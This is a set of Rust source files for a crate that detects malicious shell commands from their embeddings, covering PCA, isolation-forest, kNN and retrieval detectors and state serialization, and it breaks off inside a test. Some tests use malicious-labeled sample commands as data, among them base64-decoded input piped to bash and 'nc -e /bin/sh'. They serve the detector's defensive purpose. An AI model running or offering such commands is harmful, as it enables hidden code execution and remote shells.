                m2: fitted.m2().to_vec(),
                benign_count: fitted.benign_count(),
                exemplars: fitted.exemplars().iter().flatten().copied().collect(),
                inserted: fitted.inserted(),
            });
        }
        None
    }

    /// Rebuilds a fitted, ready-to-score detector. HNSW-backed states
    /// adopt the saved graph without a construction pass.
    pub fn restore(self) -> Box<dyn Detector> {
        match self {
            DetectorState::Retrieval { k, index } => Box::new(RetrievalMethod::from_fitted(
                RetrievalDetector::from_index(index.restore(), k),
            )),
            DetectorState::VanillaKnn { k, labels, index } => Box::new(
                VanillaKnnMethod::from_fitted(VanillaKnn::from_parts(index.restore(), labels, k)),
            ),
            DetectorState::Structural {
                mean,
                m2,
                benign_count,
                exemplars,
                inserted,
            } => {
                let mean: [f64; STRUCTURAL_DIM] =
                    mean.try_into().expect("structural state: mean length");
                let m2: [f64; STRUCTURAL_DIM] = m2.try_into().expect("structural state: m2 length");
                let rows = exemplars
                    .chunks_exact(STRUCTURAL_DIM)
                    .map(|c| {
                        let mut row = [0.0f32; STRUCTURAL_DIM];
                        row.copy_from_slice(c);
                        row
                    })
                    .collect();
                Box::new(StructuralDetector::from_fitted(
                    FittedStructural::from_parts(mean, m2, benign_count, rows, inserted),
                ))
            }
        }
    }

    /// The method name the restored detector will report.
    pub fn name(&self) -> &'static str {
        match self {
            DetectorState::Retrieval { .. } => "retrieval",
            DetectorState::VanillaKnn { .. } => "vanilla-knn",
            DetectorState::Structural { .. } => "structural",
        }
    }

    /// Whether this state's index payload is quantized — encoding it
    /// emits V2-only index tags, so a composite frame embedding it
    /// must bump its own version (see
    /// [`IndexSnapshot::has_quantized_payload`]).
    pub fn has_quantized_payload(&self) -> bool {
        match self {
            DetectorState::Retrieval { index, .. } | DetectorState::VanillaKnn { index, .. } => {
                index.has_quantized_payload()
            }
            DetectorState::Structural { .. } => false,
        }
    }

    /// Appends the state to an open binary frame.
    pub fn write(&self, w: &mut ByteWriter) {
        match self {
            DetectorState::Retrieval { k, index } => {
                w.put_u8(TAG_RETRIEVAL);
                w.put_usize(*k);
                index.write(w);
            }
            DetectorState::VanillaKnn { k, labels, index } => {
                w.put_u8(TAG_VANILLA_KNN);
                w.put_usize(*k);
                w.put_bools(labels);
                index.write(w);
            }
            DetectorState::Structural {
                mean,
                m2,
                benign_count,
                exemplars,
                inserted,
            } => {
                w.put_u8(TAG_STRUCTURAL);
                w.put_usize(mean.len());
                // f64 moments as raw bits: restores bit-identically, so
                // a cold-started service scores exactly like the donor.
                for v in mean {
                    w.put_u64(v.to_bits());
                }
                for v in m2 {
                    w.put_u64(v.to_bits());
                }
                w.put_u64(*benign_count);
                w.put_f32s(exemplars);
                w.put_u64(*inserted);
            }
        }
    }

    /// Splits a sharded-fitted neighbour state into per-shard
    /// sub-states — the distribution step of `serve::ShardRouter`:
    /// each shard's worker pool restores its own sub-state (adopting
    /// saved HNSW graphs, zero construction passes) and serves its
    /// partition independently.
    ///
    /// Returns `Err(self)` unchanged (boxed — the state can hold whole
    /// index graphs) when the state's index is not sharded (fit with
    /// `IndexConfig::with_shards(n)` first).
    pub fn split_shards(self) -> Result<ShardedDetectorState, Box<DetectorState>> {
        match self {
            DetectorState::Retrieval {
                k,
                index:
                    IndexSnapshot::Sharded {
                        params,
                        quant,
                        dim,
                        shards,
                        globals,
                    },
            } => {
                let states = shards
                    .into_iter()
                    .map(|sub| {
                        (sub.rows() > 0).then_some(DetectorState::Retrieval { k, index: sub })
                    })
                    .collect();
                Ok(ShardedDetectorState {
                    name: "retrieval",
                    k,
                    params,
                    quant,
                    dim,
                    states,
                    globals,
                })
            }
            DetectorState::VanillaKnn {
                k,
                labels,
                index:
                    IndexSnapshot::Sharded {
                        params,
                        quant,
                        dim,
                        shards,
                        globals,
                    },
            } => {
                let states = shards
                    .into_iter()
                    .zip(&globals)
                    .map(|(sub, map)| {
                        (sub.rows() > 0).then(|| DetectorState::VanillaKnn {
                            k,
                            labels: map.iter().map(|&g| labels[g]).collect(),
                            index: sub,
                        })
                    })
                    .collect();
                Ok(ShardedDetectorState {
                    name: "vanilla-knn",
                    k,
                    params,
                    quant,
                    dim,
                    states,
                    globals,
                })
            }
            other => Err(Box::new(other)),
        }
    }

    /// Reads a state written by [`DetectorState::write`].
    pub fn read(r: &mut ByteReader<'_>) -> Result<DetectorState, PersistError> {
        match r.get_u8()? {
            TAG_RETRIEVAL => {
                let k = r.get_usize()?;
                if k == 0 {
                    return Err(PersistError::Corrupt("k must be positive"));
                }
                let index = IndexSnapshot::read(r)?;
                // Both fitted detectors require a non-empty index
                // (asserted by their constructors); reject it here so
                // a corrupt frame errors instead of panicking restore.
                if index_rows(&index) == 0 {
                    return Err(PersistError::Corrupt("empty exemplar index"));
                }
                Ok(DetectorState::Retrieval { k, index })
            }
            TAG_VANILLA_KNN => {
                let k = r.get_usize()?;
                if k == 0 {
                    return Err(PersistError::Corrupt("k must be positive"));
                }
                let labels = r.get_bools()?;
                let index = IndexSnapshot::read(r)?;
                if index_rows(&index) == 0 {
                    return Err(PersistError::Corrupt("empty training index"));
                }
                if index_rows(&index) != labels.len() {
                    return Err(PersistError::Corrupt("label count != row count"));
                }
                Ok(DetectorState::VanillaKnn { k, labels, index })
            }
            TAG_STRUCTURAL => {
                let dim = r.get_usize()?;
                if dim != STRUCTURAL_DIM {
                    return Err(PersistError::Corrupt("structural feature dim mismatch"));
                }
                let mut mean = Vec::with_capacity(dim);
                for _ in 0..dim {
                    mean.push(f64::from_bits(r.get_u64()?));
                }
                let mut m2 = Vec::with_capacity(dim);
                for _ in 0..dim {
                    m2.push(f64::from_bits(r.get_u64()?));
                }
                let benign_count = r.get_u64()?;
                let exemplars = r.get_f32s()?;
                if exemplars.len() % dim != 0 {
                    return Err(PersistError::Corrupt("ragged structural exemplars"));
                }
                let inserted = r.get_u64()?;
                if inserted < (exemplars.len() / dim) as u64 {
                    return Err(PersistError::Corrupt("inserted < resident exemplars"));
                }
                Ok(DetectorState::Structural {
                    mean,
                    m2,
                    benign_count,
                    exemplars,
                    inserted,
                })
            }
            tag => Err(PersistError::BadTag(tag)),
        }
    }
}

/// A neighbour detector's fitted state, split per shard — the unit a
/// shard router distributes across worker pools and reassembles for
/// snapshots ([`ShardedDetectorState::merge`] is the exact inverse of
/// [`DetectorState::split_shards`]).
#[derive(Debug, Clone)]
pub struct ShardedDetectorState {
    /// Method name the states restore to (`"retrieval"` /
    /// `"vanilla-knn"`).
    pub name: &'static str,
    /// Neighbour count of the method.
    pub k: usize,
    /// Partition shape (shard count, partitioner seed, backend).
    pub params: ShardedParams,
    /// Candidate storage format of the partition (needed to frame
    /// empty shards so later appends quantize consistently).
    pub quant: Quantization,
    /// Embedding dimensionality (needed to frame empty shards).
    pub dim: usize,
    /// One sub-state per shard; `None` for shards holding no rows.
    pub states: Vec<Option<DetectorState>>,
    /// Per-shard local→global id maps.
    pub globals: Vec<Vec<usize>>,
}

impl ShardedDetectorState {
    /// Reassembles the combined [`DetectorState`] (a sharded manifest
    /// plus N shard frames) from the per-shard states.
    ///
    /// # Panics
    ///
    /// Panics if a sub-state's method disagrees with `name`, or map
    /// and state shapes disagree — these are programming errors in the
    /// router, not decode-time corruption.
    pub fn merge(self) -> DetectorState {
        assert_eq!(self.states.len(), self.params.shards, "one state per shard");
        assert_eq!(self.globals.len(), self.params.shards, "one map per shard");
        let total: usize = self.globals.iter().map(Vec::len).sum();
        let mut labels_global = vec![false; total];
        let mut shards = Vec::with_capacity(self.states.len());
        for (state, map) in self.states.into_iter().zip(&self.globals) {
            match state {
                None => {
                    assert!(map.is_empty(), "empty shard with a non-empty id map");
                    shards.push(empty_snapshot(self.params.backend, self.dim, self.quant));
                }
                Some(DetectorState::Retrieval { k, index }) => {
                    assert_eq!(self.name, "retrieval", "sub-state method mismatch");
                    assert_eq!(k, self.k, "sub-state k mismatch");
                    assert_eq!(index.rows(), map.len(), "id map length != shard rows");
                    shards.push(index);
                }
                Some(DetectorState::VanillaKnn { k, labels, index }) => {
                    assert_eq!(self.name, "vanilla-knn", "sub-state method mismatch");
                    assert_eq!(k, self.k, "sub-state k mismatch");
                    assert_eq!(index.rows(), map.len(), "id map length != shard rows");
                    for (&g, &l) in map.iter().zip(&labels) {
                        labels_global[g] = l;
                    }
                    shards.push(index);
                }
                Some(other) => panic!("non-neighbour sub-state {:?} in shard merge", other.name()),
            }
        }
        let index = IndexSnapshot::Sharded {
            params: self.params,
            quant: self.quant,
            dim: self.dim,
            shards,
            globals: self.globals,
        };
        if self.name == "vanilla-knn" {
            DetectorState::VanillaKnn {
                k: self.k,
                labels: labels_global,
                index,
            }
        } else {
            DetectorState::Retrieval { k: self.k, index }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{EmbeddingView, PcaMethod};
    use index::IndexConfig;
    use linalg::Matrix;

    fn toy() -> (EmbeddingView, Vec<bool>) {
        let rows: Vec<Vec<f32>> = vec![
            vec![1.0, 0.05, 0.0],
            vec![0.9, -0.05, 0.1],
            vec![0.0, 1.0, 0.0],
            vec![0.1, 0.9, 0.0],
            vec![-0.05, 1.0, 0.1],
        ];
        let m = Matrix::from_fn(5, 3, |r, c| rows[r][c]);
        (
            EmbeddingView::from_matrix(m),
            vec![true, true, false, false, false],
        )
    }

    #[test]
    fn round_trip_preserves_scores_for_both_methods_and_backends() {
        let (view, labels) = toy();
        for config in [IndexConfig::Exact, IndexConfig::hnsw()] {
            let mut dets: Vec<Box<dyn Detector>> = vec![
                Box::new(RetrievalMethod::with_index(1, config)),
                Box::new(VanillaKnnMethod::with_index(3, config)),
            ];
            for det in &mut dets {
                det.fit(&view, &labels).unwrap();
                let want = det.score_batch(&view);
                let state = DetectorState::capture(det.as_ref()).expect("snapshot-capable");
                let mut w = ByteWriter::new();
                state.write(&mut w);
                let bytes = w.into_bytes();
                let mut r = ByteReader::new(&bytes);
                let restored = DetectorState::read(&mut r).unwrap().restore();
                assert_eq!(restored.name(), det.name());
                assert_eq!(restored.score_batch(&view), want, "{}", det.name());
            }
        }
    }

    #[test]
    fn unfitted_and_unsupported_detectors_are_not_capturable() {
        assert!(DetectorState::capture(&RetrievalMethod::new(1)).is_none());
        assert!(DetectorState::capture(&PcaMethod::new(0.95)).is_none());
    }

    #[test]
    fn sharded_states_round_trip_and_split_merge_is_lossless() {
        let (view, labels) = toy();
        for config in [
            IndexConfig::Exact.with_shards(3),
            IndexConfig::hnsw().with_shards(3),
        ] {
            let mut dets: Vec<Box<dyn Detector>> = vec![
                Box::new(RetrievalMethod::with_index(1, config)),
                Box::new(VanillaKnnMethod::with_index(3, config)),
            ];
            for det in &mut dets {
                det.fit(&view, &labels).unwrap();
                let want = det.score_batch(&view);
                let state = DetectorState::capture(det.as_ref()).expect("snapshot-capable");

                // Codec round trip of the sharded frame.
                let mut w = ByteWriter::new();
                state.write(&mut w);
                let bytes = w.into_bytes();
                let restored = DetectorState::read(&mut ByteReader::new(&bytes))
                    .unwrap()
                    .restore();
                assert_eq!(restored.score_batch(&view), want, "{}", det.name());

                // Split → merge is the identity on scores: the router's
                // distribution and snapshot-reassembly paths cannot
                // drift from the resident state.
                let split = DetectorState::read(&mut ByteReader::new(&bytes))
                    .unwrap()
                    .split_shards()
                    .expect("sharded state splits");
                assert_eq!(split.params.shards, 3);
                assert_eq!(
                    split.states.iter().flatten().count(),
                    split.globals.iter().filter(|m| !m.is_empty()).count()
                );
                let remerged = split.merge().restore();
                assert_eq!(remerged.score_batch(&view), want, "{}", det.name());
            }
        }
    }

    #[test]
    fn unsharded_states_refuse_to_split() {
        let (view, labels) = toy();
        let mut det = RetrievalMethod::new(1);
        det.fit(&view, &labels).unwrap();
        let state = DetectorState::capture(&det).unwrap();
        assert!(state.split_shards().is_err());
    }

    #[test]
    fn structural_state_round_trips_bit_identically() {
        let lines: Vec<String> = [
            "ls -la /var/log",
            "grep -r pattern src/",
            "cat /etc/hosts",
            "tar -czf backup.tar.gz /srv/app",
            "printf aGk= | base64 -d | bash",
            "eval $(echo d2hvYW1p | base64 -d)",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let labels = vec![false, false, false, false, true, true];
        let view = EmbeddingView::lines_only(lines.clone());
        let mut det = StructuralDetector::new();
        det.fit(&view, &labels).unwrap();
        let want = det.score_batch(&view);

        let state = DetectorState::capture(&det).expect("snapshot-capable");
        assert_eq!(state.name(), "structural");
        assert!(!state.has_quantized_payload());
        let mut w = ByteWriter::new();
        state.write(&mut w);
        let bytes = w.into_bytes();
        let decoded = DetectorState::read(&mut ByteReader::new(&bytes)).unwrap();
        assert!(
            decoded.clone().split_shards().is_err(),
            "flat state cannot shard"
        );
        let restored = decoded.restore();
        assert_eq!(restored.name(), "structural");
        assert_eq!(restored.score_batch(&view), want);
    }

    #[test]
    fn structural_read_rejects_corrupt_frames() {
        let view = EmbeddingView::lines_only(vec!["ls".into(), "nc -e /bin/sh".into()]);
        let mut det = StructuralDetector::new();
        det.fit(&view, &[false, true]).unwrap();
        let state = DetectorState::capture(&det).unwrap();
        let mut w = ByteWriter::new();
        state.write(&mut w);
        let mut bytes = w.into_bytes();
        // Truncation mid-frame must error, not panic.
        bytes.truncate(bytes.len() / 2);
        assert!(DetectorState::read(&mut ByteReader::new(&bytes)).is_err());
    }

    #[test]
    fn appends_survive_a_round_trip() {
        let (view, labels) = toy();
        let mut det = RetrievalMethod::new(1);
        det.fit(&view, &labels).unwrap();
        let extra = EmbeddingView::from_matrix(Matrix::from_rows(&[&[0.7, 0.7, 0.0]]));
        assert_eq!(det.append(&extra, &[true]), Ok(true));
        assert_eq!(det.n_exemplars(), Some(3));
        let state = DetectorState::capture(&det).unwrap();
        let restored = state.restore();
        assert_eq!(restored.score_batch(&view), det.score_batch(&view));
    }
}
