//! PCA reconstruction-error detector (paper Eq. 1).

use linalg::{Matrix, Pca};

/// Unsupervised detector scoring embeddings by PCA reconstruction error
/// `‖WᵀW f(t) − f(t)‖²`.
#[derive(Debug, Clone)]
pub struct PcaDetector {
    pca: Pca,
}

impl PcaDetector {
    /// Fits on training embeddings `(n, d)`, keeping enough components
    /// for `variance_ratio` of the variance (the paper keeps 95%).
    ///
    /// # Panics
    ///
    /// Panics if `data` is empty or `variance_ratio ∉ (0, 1]`.
    pub fn fit(data: &Matrix, variance_ratio: f32) -> Self {
        PcaDetector {
            pca: Pca::fit_variance_ratio(data, variance_ratio),
        }
    }

    /// Fits keeping exactly `p` components.
    ///
    /// # Panics
    ///
    /// Panics if `p` is out of range or `data` is empty.
    pub fn fit_components(data: &Matrix, p: usize) -> Self {
        PcaDetector {
            pca: Pca::fit(data, p),
        }
    }

    /// Number of retained components.
    pub fn n_components(&self) -> usize {
        self.pca.n_components()
    }

    /// The underlying projection (exposed for reconstruction-based tuning,
    /// which alternates updates of `f(·)` and `W`).
    pub fn pca(&self) -> &Pca {
        &self.pca
    }

    /// Anomaly score of one embedding: the reconstruction error.
    pub fn score(&self, x: &[f32]) -> f32 {
        self.pca.reconstruction_error(x)
    }

    /// Scores every row of `data`.
    pub fn score_all(&self, data: &Matrix) -> Vec<f32> {
        self.pca.reconstruction_errors(data)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn planar_data() -> Matrix {
        // Points spanning the (x, y) plane of a 4-D space.
        Matrix::from_fn(40, 4, |r, c| match c {
            0 => (r as f32) * 0.5,
            1 => (r as f32 % 7.0) - 3.0,
            _ => 0.0,
        })
    }

    #[test]
    fn in_plane_scores_low_out_of_plane_high() {
        let det = PcaDetector::fit(&planar_data(), 0.99);
        let inlier = [5.0, 1.0, 0.0, 0.0];
        let outlier = [5.0, 1.0, 8.0, -6.0];
        assert!(det.score(&inlier) < 1e-2);
        assert!(det.score(&outlier) > 50.0);
    }

    #[test]
    fn scores_are_nonnegative() {
        let det = PcaDetector::fit(&planar_data(), 0.9);
        for x in [[0.0; 4], [1.0, -2.0, 3.0, -4.0]] {
            assert!(det.score(&x) >= 0.0);
        }
    }

    #[test]
    fn score_all_matches_score() {
        let data = planar_data();
        let det = PcaDetector::fit(&data, 0.95);
        let all = det.score_all(&data);
        for (r, score) in all.iter().enumerate() {
            assert_eq!(*score, det.score(data.row(r)));
        }
    }

    #[test]
    fn fixed_components_constructor() {
        let det = PcaDetector::fit_components(&planar_data(), 2);
        assert_eq!(det.n_components(), 2);
        assert!(det.pca().explained_variance_ratio().len() == 2);
    }
}
