//! Isolation forest (Liu, Ting & Zhou, the paper's reference [11]).

use linalg::Matrix;
use rand::Rng;

/// One node of an isolation tree.
#[derive(Debug, Clone)]
enum Node {
    Split {
        feature: usize,
        threshold: f32,
        left: Box<Node>,
        right: Box<Node>,
    },
    Leaf {
        size: usize,
    },
}

/// An isolation forest: anomalies isolate in few random splits, so short
/// expected path length ⇒ high anomaly score.
#[derive(Debug, Clone)]
pub struct IsolationForest {
    trees: Vec<Node>,
    sample_size: usize,
}

/// Average unsuccessful-search path length of a BST with `n` nodes —
/// the normalizer `c(n)` from the paper.
fn c_factor(n: usize) -> f32 {
    if n <= 1 {
        return 0.0;
    }
    let n = n as f32;
    2.0 * ((n - 1.0).ln() + 0.577_215_7) - 2.0 * (n - 1.0) / n
}

impl IsolationForest {
    /// Fits `n_trees` trees, each on a subsample of `sample_size` rows.
    ///
    /// # Panics
    ///
    /// Panics if `data` is empty or `n_trees == 0`.
    pub fn fit<R: Rng + ?Sized>(
        rng: &mut R,
        data: &Matrix,
        n_trees: usize,
        sample_size: usize,
    ) -> Self {
        assert!(data.rows() > 0, "isolation forest needs training data");
        assert!(n_trees > 0, "need at least one tree");
        let m = sample_size.clamp(2, data.rows());
        let max_depth = (m as f32).log2().ceil() as usize + 1;
        let trees = (0..n_trees)
            .map(|_| {
                // Subsample without replacement (partial Fisher–Yates).
                let mut idx: Vec<usize> = (0..data.rows()).collect();
                for i in 0..m {
                    let j = rng.gen_range(i..idx.len());
                    idx.swap(i, j);
                }
                idx.truncate(m);
                build_tree(rng, data, &idx, 0, max_depth)
            })
            .collect();
        IsolationForest {
            trees,
            sample_size: m,
        }
    }

    /// Number of trees.
    pub fn len(&self) -> usize {
        self.trees.len()
    }

    /// `true` if the forest has no trees (never: construction forbids it).
    pub fn is_empty(&self) -> bool {
        self.trees.is_empty()
    }

    /// Anomaly score in `(0, 1)`: `2^(−E[h(x)]/c(ψ))`. Scores above
    /// ~0.6 indicate anomalies; ~0.5 is average.
    pub fn score(&self, x: &[f32]) -> f32 {
        let mean_path: f32 =
            self.trees.iter().map(|t| path_length(t, x, 0)).sum::<f32>() / self.trees.len() as f32;
        let c = c_factor(self.sample_size).max(1e-6);
        2.0f32.powf(-mean_path / c)
    }

    /// Scores every row.
    pub fn score_all(&self, data: &Matrix) -> Vec<f32> {
        (0..data.rows()).map(|r| self.score(data.row(r))).collect()
    }
}

fn build_tree<R: Rng + ?Sized>(
    rng: &mut R,
    data: &Matrix,
    idx: &[usize],
    depth: usize,
    max_depth: usize,
) -> Node {
    if idx.len() <= 1 || depth >= max_depth {
        return Node::Leaf { size: idx.len() };
    }
    // Pick a random feature with spread; give up after a few tries.
    for _ in 0..8 {
        let feature = rng.gen_range(0..data.cols());
        let (mut lo, mut hi) = (f32::INFINITY, f32::NEG_INFINITY);
        for &i in idx {
            let v = data[(i, feature)];
            lo = lo.min(v);
            hi = hi.max(v);
        }
        if hi <= lo {
            continue;
        }
        let threshold = rng.gen_range(lo..hi);
        let (left_idx, right_idx): (Vec<usize>, Vec<usize>) =
            idx.iter().partition(|&&i| data[(i, feature)] < threshold);
        if left_idx.is_empty() || right_idx.is_empty() {
            continue;
        }
        return Node::Split {
            feature,
            threshold,
            left: Box::new(build_tree(rng, data, &left_idx, depth + 1, max_depth)),
            right: Box::new(build_tree(rng, data, &right_idx, depth + 1, max_depth)),
        };
    }
    Node::Leaf { size: idx.len() }
}

fn path_length(node: &Node, x: &[f32], depth: usize) -> f32 {
    match node {
        Node::Leaf { size } => depth as f32 + c_factor(*size),
        Node::Split {
            feature,
            threshold,
            left,
            right,
        } => {
            if x[*feature] < *threshold {
                path_length(left, x, depth + 1)
            } else {
                path_length(right, x, depth + 1)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn gaussian_blob(rng: &mut StdRng, n: usize, d: usize) -> Matrix {
        Matrix::from_fn(n, d, |_, _| linalg::rng::standard_normal(rng))
    }

    #[test]
    fn far_outlier_scores_higher_than_center() {
        let mut rng = StdRng::seed_from_u64(1);
        let data = gaussian_blob(&mut rng, 400, 3);
        let forest = IsolationForest::fit(&mut rng, &data, 100, 128);
        let center = [0.0, 0.0, 0.0];
        let outlier = [8.0, -8.0, 8.0];
        let sc = forest.score(&center);
        let so = forest.score(&outlier);
        assert!(so > sc, "outlier {so} vs center {sc}");
        assert!(so > 0.6, "outlier score {so} should be clearly anomalous");
    }

    #[test]
    fn scores_are_in_unit_interval() {
        let mut rng = StdRng::seed_from_u64(2);
        let data = gaussian_blob(&mut rng, 100, 4);
        let forest = IsolationForest::fit(&mut rng, &data, 25, 64);
        for s in forest.score_all(&data) {
            assert!((0.0..=1.0).contains(&s), "score {s}");
        }
    }

    #[test]
    fn typical_points_score_near_half_or_below() {
        let mut rng = StdRng::seed_from_u64(3);
        let data = gaussian_blob(&mut rng, 400, 2);
        let forest = IsolationForest::fit(&mut rng, &data, 50, 128);
        let mean: f32 = forest.score_all(&data).iter().sum::<f32>() / data.rows() as f32;
        assert!(mean < 0.6, "mean in-distribution score {mean}");
    }

    #[test]
    fn c_factor_properties() {
        assert_eq!(c_factor(0), 0.0);
        assert_eq!(c_factor(1), 0.0);
        assert!(c_factor(10) > c_factor(2));
        // c(n) ≈ 2 ln(n−1) + γ… grows slowly.
        assert!(c_factor(256) < 15.0);
    }

    #[test]
    fn constant_data_yields_leaves() {
        let mut rng = StdRng::seed_from_u64(4);
        let data = Matrix::full(50, 3, 1.0);
        let forest = IsolationForest::fit(&mut rng, &data, 10, 32);
        // Every point identical: all scores equal, no panic.
        let scores = forest.score_all(&data);
        for w in scores.windows(2) {
            assert!((w[0] - w[1]).abs() < 1e-6);
        }
        assert_eq!(forest.len(), 10);
        assert!(!forest.is_empty());
    }

    #[test]
    #[should_panic(expected = "at least one tree")]
    fn zero_trees_panics() {
        let mut rng = StdRng::seed_from_u64(5);
        let _ = IsolationForest::fit(&mut rng, &Matrix::zeros(5, 2), 0, 4);
    }
}
