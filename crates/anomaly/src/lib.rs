//! Anomaly detectors over command-line embeddings.
//!
//! Section III of the paper lists the unsupervised detectors that can run
//! in the language model's embedding space — "one-class support vector
//! machines, isolation forest, and principal component analysis" — and
//! develops PCA reconstruction error (Eq. 1) in detail. Section IV-D adds
//! the retrieval-based method: a kNN variant scoring each test sample by
//! its similarity to *malicious* training neighbours only, which is
//! robust to the label noise of the supervision source.
//!
//! All detectors share the same shape: `fit` on training embeddings,
//! `score` one embedding (higher = more anomalous/malicious).
//!
//! ```
//! use anomaly::PcaDetector;
//! use linalg::Matrix;
//!
//! // Benign data on a line; an off-line point scores high.
//! let train = Matrix::from_fn(50, 3, |r, c| if c == 2 { 0.0 } else { r as f32 });
//! let det = PcaDetector::fit(&train, 0.95);
//! assert!(det.score(&[25.0, 25.0, 40.0]) > det.score(&[10.0, 10.0, 0.0]));
//! ```

pub mod detector;
pub mod iforest;
pub mod knn;
pub mod ocsvm;
pub mod pca;
pub mod state;
pub mod structural;

pub use detector::{
    check_labels, Detector, DetectorError, EmbeddingView, IsolationForestMethod, OneClassSvmMethod,
    PcaMethod, Pooling, RetrievalMethod, VanillaKnnMethod,
};
pub use iforest::IsolationForest;
pub use index::{
    shard_for_row, HnswParams, IndexConfig, Neighbor, ShardBackend, ShardedParams, VectorIndex,
};
pub use knn::{merge_shard_candidates, RetrievalDetector, ShardCandidate, ShardMerge, VanillaKnn};
pub use ocsvm::OneClassSvm;
pub use pca::PcaDetector;
pub use state::{DetectorState, ShardedDetectorState};
pub use structural::{FittedStructural, StructuralDetector, MAX_EXEMPLARS};
