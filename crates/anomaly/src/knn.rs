//! Retrieval-based detection (paper Section IV-D).
//!
//! Two detectors:
//!
//! * [`VanillaKnn`] — classic majority-vote kNN over all labeled
//!   training embeddings. Included as the ablation baseline the paper
//!   argues *against*: with noisy supervision, benign-labeled neighbours
//!   may actually be malicious, so a benign majority proves nothing.
//! * [`RetrievalDetector`] — the paper's modification: the score of a
//!   test sample is the **average similarity to its k nearest *malicious*
//!   training neighbours**, ignoring benign labels entirely; "such an
//!   innovation leads to obvious performance gains … owing to relief of
//!   the negative impact of label noise". The paper uses k = 1.

use linalg::ops::cosine_similarity;
use linalg::Matrix;

/// The paper's malicious-neighbour retrieval scorer.
#[derive(Debug, Clone)]
pub struct RetrievalDetector {
    malicious: Matrix,
    k: usize,
}

impl RetrievalDetector {
    /// Builds the detector from labeled training embeddings, keeping
    /// only the malicious-labeled rows.
    ///
    /// # Panics
    ///
    /// Panics if lengths disagree, `k == 0`, or no row is labeled
    /// malicious (retrieval needs at least one exemplar).
    pub fn fit(embeddings: &Matrix, labels: &[bool], k: usize) -> Self {
        assert_eq!(
            embeddings.rows(),
            labels.len(),
            "one label per embedding required"
        );
        assert!(k >= 1, "k must be positive");
        let rows: Vec<usize> = labels
            .iter()
            .enumerate()
            .filter(|(_, &m)| m)
            .map(|(i, _)| i)
            .collect();
        assert!(
            !rows.is_empty(),
            "retrieval needs at least one malicious-labeled sample"
        );
        let malicious = Matrix::from_fn(rows.len(), embeddings.cols(), |r, c| {
            embeddings[(rows[r], c)]
        });
        RetrievalDetector { malicious, k }
    }

    /// Number of stored malicious exemplars.
    pub fn n_exemplars(&self) -> usize {
        self.malicious.rows()
    }

    /// Intrusion score `oᴿᵉᵗʳⁱ`: mean cosine similarity between `x` and
    /// its `k` most similar malicious exemplars.
    pub fn score(&self, x: &[f32]) -> f32 {
        let mut sims: Vec<f32> = (0..self.malicious.rows())
            .map(|r| cosine_similarity(self.malicious.row(r), x))
            .collect();
        sims.sort_by(|a, b| b.partial_cmp(a).unwrap_or(std::cmp::Ordering::Equal));
        let k = self.k.min(sims.len());
        sims[..k].iter().sum::<f32>() / k as f32
    }

    /// Scores every row of `data`.
    pub fn score_all(&self, data: &Matrix) -> Vec<f32> {
        (0..data.rows()).map(|r| self.score(data.row(r))).collect()
    }
}

/// Classic majority-vote kNN, for the ablation comparison.
#[derive(Debug, Clone)]
pub struct VanillaKnn {
    embeddings: Matrix,
    labels: Vec<bool>,
    k: usize,
}

impl VanillaKnn {
    /// Stores the full labeled training set.
    ///
    /// # Panics
    ///
    /// Panics if lengths disagree, the set is empty, or `k == 0`.
    pub fn fit(embeddings: &Matrix, labels: &[bool], k: usize) -> Self {
        assert_eq!(embeddings.rows(), labels.len(), "one label per embedding");
        assert!(embeddings.rows() > 0, "kNN needs training data");
        assert!(k >= 1, "k must be positive");
        VanillaKnn {
            embeddings: embeddings.clone(),
            labels: labels.to_vec(),
            k,
        }
    }

    /// Score: fraction of the k nearest neighbours labeled malicious,
    /// weighted by similarity (so ties order sensibly).
    pub fn score(&self, x: &[f32]) -> f32 {
        let mut sims: Vec<(f32, bool)> = (0..self.embeddings.rows())
            .map(|r| (cosine_similarity(self.embeddings.row(r), x), self.labels[r]))
            .collect();
        sims.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(std::cmp::Ordering::Equal));
        let k = self.k.min(sims.len());
        let malicious_sim: f32 = sims[..k].iter().filter(|(_, m)| *m).map(|(s, _)| s).sum();
        let count = sims[..k].iter().filter(|(_, m)| *m).count();
        if count * 2 > k {
            // Majority malicious: average similarity of those neighbours.
            malicious_sim / count as f32
        } else {
            0.0
        }
    }

    /// Scores every row of `data`.
    pub fn score_all(&self, data: &Matrix) -> Vec<f32> {
        (0..data.rows()).map(|r| self.score(data.row(r))).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Embeddings on distinct directions: malicious cluster along +x,
    /// benign along +y.
    fn toy() -> (Matrix, Vec<bool>) {
        let rows: Vec<Vec<f32>> = vec![
            vec![1.0, 0.05, 0.0],
            vec![0.9, -0.05, 0.1],
            vec![0.0, 1.0, 0.0],
            vec![0.1, 0.9, 0.0],
            vec![-0.05, 1.0, 0.1],
        ];
        let m = Matrix::from_fn(5, 3, |r, c| rows[r][c]);
        (m, vec![true, true, false, false, false])
    }

    #[test]
    fn retrieval_scores_malicious_direction_higher() {
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 1);
        assert_eq!(det.n_exemplars(), 2);
        let near_mal = det.score(&[1.0, 0.0, 0.0]);
        let near_ben = det.score(&[0.0, 1.0, 0.0]);
        assert!(near_mal > 0.9);
        assert!(near_mal > near_ben);
    }

    #[test]
    fn retrieval_ignores_benign_labels() {
        // A point surrounded by benign-labeled exemplars still scores by
        // its similarity to the nearest malicious one — the label-noise
        // robustness the paper claims.
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 1);
        let mislabeled_attack = [0.8, 0.6, 0.0]; // between clusters
        let score = det.score(&mislabeled_attack);
        assert!(
            score > 0.7,
            "score {score} should reflect malicious similarity"
        );
    }

    #[test]
    fn vanilla_majority_suppresses_minority_votes() {
        let (emb, labels) = toy();
        let knn = VanillaKnn::fit(&emb, &labels, 3);
        // Near benign cluster: majority benign ⇒ score 0.
        assert_eq!(knn.score(&[0.0, 1.0, 0.0]), 0.0);
        // Deep in malicious direction with k=3 the neighbours are
        // 2 malicious + 1 benign ⇒ majority malicious.
        assert!(knn.score(&[1.0, 0.0, 0.0]) > 0.5);
    }

    #[test]
    fn k_larger_than_exemplars_is_clamped() {
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 10);
